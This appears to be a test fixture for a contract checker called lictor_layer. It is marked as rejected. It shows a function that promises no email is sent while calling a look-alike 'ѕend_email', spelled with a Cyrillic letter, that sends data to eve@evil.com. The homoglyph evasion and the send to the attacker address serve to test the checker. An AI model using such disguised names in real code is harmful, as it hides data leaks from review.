# rejected: a Cyrillic letter makes another name, which nothing binds
import lictor_layer
from tools.desk.trusted import contracts as c


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    ѕend_email("eve@evil.com", "x")
